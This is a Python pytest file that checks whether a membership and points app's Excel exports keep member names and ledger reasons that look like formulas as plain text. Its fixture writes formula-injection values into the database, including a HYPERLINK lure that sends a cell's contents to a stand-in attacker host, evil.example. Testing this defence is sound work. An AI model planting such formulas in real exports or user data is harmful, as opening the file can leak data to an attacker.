"""Exports open in Excel and WPS: a name or reason that reads like a formula (=HYPERLINK(…), +, -, @)
stays text there, as typed, and never runs."""
from io import BytesIO

import pytest
from openpyxl import load_workbook

from .helpers import make_activity

LURE = '=HYPERLINK("https:"&"evil.example?d="&B2,"点此查看积分")'
STARTS = [LURE, "+1+cmd", "-2+3", "@SUM(A1:A9)"]


def cells_of(answer):
    """Every non-empty cell of the workbook's first sheet, as Excel reads it: value and data type."""
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    ws = load_workbook(BytesIO(answer.data)).active
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def formulas(answer) -> list:
    return [c.value for c in cells_of(answer) if c.data_type == "f"]


@pytest.fixture
def lured(sql, park, shop):
    """Members of branch A whose names were typed as formulas (by an import or an edit), and their
    entries' reasons too."""
    for member, name in zip(park.members_a, STARTS):
        sql("UPDATE member SET name = :n WHERE id = :m", n=name, m=member.id)
    sql("UPDATE ledger_entry SET reason = :r", r=LURE)
    return park


@pytest.mark.parametrize("path", [
    "/api/v1/admin/members/export?org_id={branch}",
    "/api/v1/archive/members/export?org_id={branch}",
    "/api/v1/archive/ledger/export",
])
def test_names_that_look_like_formulas_are_exported_as_text(client, lured, path):
    answer = client.get(path.format(branch=lured.branch_a.id), headers=lured.auth("admin"))
    cells = cells_of(answer)
    assert formulas(answer) == []
    names = {c.value: c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))}
    assert any(value.startswith("=HYPERLINK(") for value in names), sorted(names)
    assert all(c.data_type == "s" and c.quotePrefix for c in names.values())


def test_attendance_export_keeps_a_formula_name_as_text(client, lured):
    activity = make_activity(client, lured)
    answer = client.get(f"/api/v1/activities/{activity['id']}/attendance?format=xlsx", headers=lured.auth("org_a"))
    assert formulas(answer) == []
    assert any(c.value == LURE and c.data_type == "s" for c in cells_of(answer))


def test_numbers_stay_numbers(client, lured):
    answer = client.get("/api/v1/archive/ledger/export", headers=lured.auth("admin"))
    assert any(c.data_type == "n" and isinstance(c.value, int) and c.value == 100 for c in cells_of(answer))
